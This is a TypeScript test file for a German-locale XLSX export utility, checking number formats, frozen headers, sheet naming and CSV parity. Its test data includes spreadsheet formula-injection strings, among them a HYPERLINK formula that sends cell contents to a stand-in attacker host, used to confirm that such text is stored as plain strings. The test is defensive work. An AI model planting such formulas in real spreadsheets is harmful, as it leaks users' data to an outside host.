import { describe, expect, it } from "vitest";
import { exportTableToCsv, type ExportTable } from "~/utils/export-table";
import { exportTableToXlsx, sheetName } from "~/utils/xlsx.server";
import { csvCells, readXlsx, xlsxAsCsvCells } from "../support/xlsx";

const FORMULAS = ["=SUM(A1)", '=HYPERLINK("https://evil.example/?d="&A1;"Beleg")', "+49 331 123", "-2+3", "@SUM(A1:A9)", "\t=1+1"];

const table: ExportTable = {
  title: "Belege: 2026/Q1 [Entwurf] mit einem sehr langen Namen",
  columns: [
    { header: "Zahlungsempfänger", kind: "text" },
    { header: "Betrag brutto", kind: "money" },
    { header: "Anzahl", kind: "integer" },
    { header: "Stunden", kind: "decimal" },
    { header: "Quote", kind: "percent" },
    { header: "Belegdatum", kind: "date" },
  ],
  rows: [
    ["IT GmbH", 1190000, 3, 1.5, 28.79, "2026-03-05"],
    ["Händler", -2500, -1, 0.25, 100, "2026-12-31"],
    [null, null, null, null, null, null],
    ...FORMULAS.map((f, i) => [f, 1999 + i, i, null, null, "2026-01-01"] as const),
  ],
};

describe("the XLSX writer", () => {
  it("writes real number, money, percent and date cells with German formats", async () => {
    const { sheet, cells } = await readXlsx(await exportTableToXlsx(table));
    expect(cells[0].map((c) => c.value)).toEqual(["Zahlungsempfänger", "Betrag brutto", "Anzahl", "Stunden", "Quote", "Belegdatum"]);
    const [text, money, integer, decimal, percent, date] = cells[1];
    expect(text.value).toBe("IT GmbH");
    expect(money.value).toBe(11900);
    expect(money.numFmt).toBe('#,##0.00 "€"');
    expect(integer.value).toBe(3);
    expect(integer.numFmt).toBe("0");
    expect(decimal.value).toBe(1.5);
    expect(percent.value).toBeCloseTo(0.2879, 10);
    expect(percent.numFmt).toBe("0.00%");
    expect(date.value).toEqual(new Date(Date.UTC(2026, 2, 5)));
    expect(date.numFmt).toBe("dd.mm.yyyy");
    expect(cells[2][1].value).toBe(-25);
    expect(cells[2][5].value).toEqual(new Date(Date.UTC(2026, 11, 31)));
    expect(cells[3].map((c) => c.value)).toEqual([null, null, null, null, null, null]);
    expect(sheet.name).toBe("Belege 2026 Q1 Entwurf mit eine");
  });

  it("keeps user text that looks like a formula as a string cell, never a formula", async () => {
    const { cells } = await readXlsx(await exportTableToXlsx(table));
    const texts = cells.slice(4).map((row) => row[0]);
    expect(texts.map((c) => c.value)).toEqual(FORMULAS);
    for (const cell of texts) {
      expect(cell.type).toBe(3); // ExcelJS.ValueType.String
      expect(cell.formula).toBeUndefined();
    }
  });

  it("freezes the header row, sets an autofilter, bold headers and readable widths", async () => {
    const { sheet } = await readXlsx(await exportTableToXlsx(table));
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBe("A1:F1");
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    const widths = sheet.columns.map((c) => c.width ?? 0);
    expect(widths[0]).toBeGreaterThanOrEqual("Zahlungsempfänger".length + 3);
    expect(widths[0]).toBeLessThanOrEqual(60);
    for (const w of widths) expect(w).toBeGreaterThanOrEqual(8);
  });

  it("holds the same figures as the CSV of the same table", async () => {
    const csv = csvCells(exportTableToCsv(table));
    expect(await xlsxAsCsvCells(await exportTableToXlsx(table), "iso")).toEqual(csv);
  });

  it("refuses non-integer cents and dates that are not ISO instead of guessing", async () => {
    await expect(exportTableToXlsx({ ...table, rows: [["a", 1.5, 1, 1, 1, null]] })).rejects.toThrow(/integer cents/);
    await expect(exportTableToXlsx({ ...table, rows: [["a", 1, 1, 1, 1, "05.03.2026"]] })).rejects.toThrow(/ISO date/);
  });

  it("names sheets within Excel's limits", () => {
    expect(sheetName("a/b\\c?d*e[f]g:h")).toBe("a b c d e f g h");
    expect(sheetName("   ")).toBe("Tabelle");
    expect(sheetName("x".repeat(40))).toHaveLength(31);
  });
});
